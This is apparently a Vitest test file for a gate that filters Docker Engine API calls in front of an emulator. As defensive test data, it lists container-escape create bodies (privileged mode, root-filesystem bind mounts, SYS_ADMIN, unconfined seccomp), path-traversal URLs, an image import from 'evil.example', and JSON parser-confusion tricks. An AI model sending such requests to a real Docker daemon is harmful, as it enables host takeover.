/**
 * The emulator's second layer in front of the Docker engine (`infra/emulator/engine-gate.ts`): behind the proxy
 * token, only the Engine API calls the Docker adapter makes are forwarded, and no container-create body that asks
 * for anything from the host. The gate is checked against the bodies the real adapter builds (`containerBody`), so
 * it cannot drift into refusing what the emulator itself sends.
 */
import { describe, expect, it } from 'vitest';
import { createBodyRefusal, gateEngineCall } from '../../../infra/emulator/engine-gate';
import { containerBody, type EngineFacts } from '../../../src/backends/docker/container';
import type { WorkerSpec } from '../../../src/backends/port';

const spec: WorkerSpec = {
  name: 'alice',
  uid: '0123456789abcdef',
  deploymentId: 'dep1',
  resourceName: 'dep1-alice-01234567',
  image: 'registry.example.com/team/worker:1.2',
  env: { HICLAW_WORKER_NAME: 'alice' },
  extraHosts: ['db.internal:10.0.0.5'],
  workingDir: '/srv',
  resources: { cpuMillicores: 500, memoryMb: 256 },
  labels: { team: 'a' },
};
const linux: EngineFacts = { os: 'linux', hasBridge: true };

const encode = (value: unknown) =>
  new TextEncoder().encode(typeof value === 'string' ? value : JSON.stringify(value));
const engineUrl = (path: string) => new URL(`http://docker.sock${path}`);
const create = (body: unknown) =>
  gateEngineCall('POST', engineUrl('/containers/create?name=w1'), encode(body));

describe('the engine gate of the emulator outbound service', () => {
  it('forwards every call the Docker adapter makes, with the parameters it sends', () => {
    const filters = encodeURIComponent(JSON.stringify({ label: ['orchestrator.deployment=dep1'] }));
    const calls: [string, string][] = [
      ['GET', '/_ping'],
      ['GET', '/version'],
      ['GET', `/networks?filters=${encodeURIComponent('{"name":["bridge"]}')}`],
      ['GET', `/containers/json?all=1&filters=${filters}`],
      ['GET', '/containers/dep1-alice-01234567/json'],
      ['GET', '/containers/dep1-alice-01234567/logs?stdout=1&stderr=1&tail=100'],
      ['POST', '/containers/3f2a9c/start'],
      ['POST', '/containers/dep1-alice-01234567/stop?t=5'],
      ['POST', '/containers/3f2a9c/rename?name=dep1-alice-01234567'],
      ['DELETE', '/containers/dep1-alice-01234567?force=1&v=1'],
      ['GET', '/images/registry.example.com/team/worker:1.2/json'],
      ['GET', '/images/busybox@sha256:0123abcd/json'],
      ['POST', '/images/create?fromImage=registry.example.com%2Fteam%2Fworker&tag=1.2'],
    ];
    for (const [method, path] of calls) {
      expect(gateEngineCall(method, engineUrl(path), null), `${method} ${path}`).toEqual({ allowed: true });
    }
  });

  it('forwards the create bodies the adapter builds, on the host network and on a bridge with a console port', () => {
    for (const network of ['host', 'bridge']) {
      const body = containerBody({
        spec,
        network,
        extraHosts: ['db.internal:10.0.0.5'],
        facts: linux,
        consolePort: 8080,
        hostPort: 21000,
      });
      const verdict = create(body);
      expect(verdict.allowed, network).toBe(true);
      expect(JSON.parse(new TextDecoder().decode((verdict as { body: Uint8Array }).body))).toEqual(body);
    }
  });

  it('refuses engine calls the adapter never makes: exec, archive, build, commit, update, host info, swarm', () => {
    const refused: [string, string][] = [
      ['POST', '/containers/abc/exec'],
      ['POST', '/exec/abc/start'],
      ['PUT', '/containers/abc/archive?path=/'],
      ['GET', '/containers/abc/archive?path=/etc'],
      ['POST', '/containers/abc/update'],
      ['POST', '/containers/abc/attach'],
      ['POST', '/build'],
      ['POST', '/commit?container=abc'],
      ['GET', '/info'],
      ['POST', '/swarm/init'],
      ['POST', '/plugins/pull'],
      ['POST', '/volumes/create'],
      ['POST', '/v1.41/containers/create'],
      ['GET', '/containers/abc/logs?follow=1'],
      ['POST', '/images/create?fromSrc=http://evil.example/rootfs.tar'],
      ['GET', '/containers/a%2F..%2F..%2Finfo/json'],
      ['GET', '/images/a/../../info/json'],
    ];
    for (const [method, path] of refused) {
      expect(gateEngineCall(method, engineUrl(path), null).allowed, `${method} ${path}`).toBe(false);
    }
    // Only a create carries a body.
    expect(
      gateEngineCall('POST', engineUrl('/containers/abc/start'), encode({ Privileged: true })).allowed,
    ).toBe(false);
  });

  it.each([
    ['Privileged', { HostConfig: { Privileged: true } }],
    ['Binds', { HostConfig: { Binds: ['/:/host'] } }],
    ['Mounts', { HostConfig: { Mounts: [{ Type: 'bind', Source: '/', Target: '/host' }] } }],
    ['CapAdd', { HostConfig: { CapAdd: ['SYS_ADMIN'] } }],
    ['Capabilities', { HostConfig: { Capabilities: ['CAP_SYS_ADMIN'] } }],
    ['Devices', { HostConfig: { Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/sda' }] } }],
    ['VolumesFrom', { HostConfig: { VolumesFrom: ['other'] } }],
    ['PidMode host', { HostConfig: { PidMode: 'host' } }],
    ['IpcMode host', { HostConfig: { IpcMode: 'host' } }],
    ['UsernsMode host', { HostConfig: { UsernsMode: 'host' } }],
    ['SecurityOpt seccomp', { HostConfig: { SecurityOpt: ['seccomp=unconfined'] } }],
    ['SecurityOpt apparmor', { HostConfig: { SecurityOpt: ['apparmor:unconfined'] } }],
    ['SecurityOpt label', { HostConfig: { SecurityOpt: ['label=disable'] } }],
    ['MaskedPaths', { HostConfig: { MaskedPaths: [] } }],
    // The engine still reads host settings at the top level when there is no HostConfig (deprecated placement).
    ['top-level Privileged', { Privileged: true }],
    ['top-level Binds', { Binds: ['/:/host'] }],
    // Go's JSON decoder matches names case-insensitively and with Unicode folding (ſ = s).
    ['lower-case names', { hostconfig: { privileged: true } }],
    ['folded names', { HostConfig: { Bindſ: ['/:/host'] } }],
    ['a second HostConfig spelling', { HostConfig: {}, HOSTCONFIG: { Privileged: true } }],
    ['Privileged that is not false', { HostConfig: { Privileged: 1 } }],
  ])('refuses a create body with %s', (_what, hostile) => {
    expect(createBodyRefusal({ Image: 'worker', ...hostile })).toBeDefined();
    expect(create({ Image: 'worker', ...hostile }).allowed).toBe(false);
  });

  it.each([
    // Another container's namespaces: a worker could watch or signal the processes of any container.
    ['PidMode container:<id>', { HostConfig: { PidMode: 'container:abc' } }],
    ['IpcMode container:<id>', { HostConfig: { IpcMode: 'container:abc' } }],
    ['NetworkMode container:<id>', { HostConfig: { NetworkMode: 'container:abc' } }],
    ['Sysctls', { HostConfig: { Sysctls: { 'net.ipv4.ip_forward': '1' } } }],
    [
      'PortBindings on 0.0.0.0',
      { HostConfig: { PortBindings: { '8080/tcp': [{ HostIp: '0.0.0.0', HostPort: '80' }] } } },
    ],
    ['PortBindings without HostIp', { HostConfig: { PortBindings: { '8080/tcp': [{ HostPort: '80' }] } } }],
    ['PublishAllPorts', { HostConfig: { PublishAllPorts: true } }],
    ['CgroupParent', { HostConfig: { CgroupParent: '/' } }],
    ['Runtime', { HostConfig: { Runtime: 'runc-unsafe' } }],
    ['OomKillDisable', { HostConfig: { OomKillDisable: true } }],
    [
      'a restart policy the adapter never sets',
      { HostConfig: { RestartPolicy: { Name: 'always', MaximumRetryCount: 0 } } },
    ],
    ['top-level User root', { User: '0:0' }],
    ['top-level Entrypoint', { Entrypoint: ['/bin/sh', '-c', 'id'] }],
    ['top-level Volumes', { Volumes: { '/host': {} } }],
    ['top-level HostConfig spelled otherwise', { Hostconfig: { Sysctls: {} } }],
    ['an exposed port that is not tcp', { ExposedPorts: { '53/udp': {} } }],
  ])('refuses a create body with %s, which the Docker adapter never sends', (_what, hostile) => {
    expect(createBodyRefusal({ Image: 'worker', ...hostile })).toBeDefined();
    expect(create({ Image: 'worker', ...hostile }).allowed).toBe(false);
  });

  it('forwards the body it checked, so duplicate keys and trailing data the engine would read never get past', () => {
    // JSON.parse keeps the last duplicate; the engine's decoder merges both into one HostConfig.
    const merged = create(
      '{"Image":"w","HostConfig":{"Privileged":true},"HostConfig":{"NetworkMode":"host"}}',
    );
    expect(merged.allowed).toBe(true);
    const forwarded = new TextDecoder().decode((merged as { body: Uint8Array }).body);
    expect(JSON.parse(forwarded)).toEqual({ Image: 'w', HostConfig: { NetworkMode: 'host' } });
    expect(forwarded).not.toContain('Privileged');
    // The engine decodes the first JSON value and ignores the rest; here the rest makes the body refused.
    expect(create('{"Image":"w"} {"Privileged":true}').allowed).toBe(false);
    expect(create('not json').allowed).toBe(false);
    expect(create('["Image"]').allowed).toBe(false);
  });
});
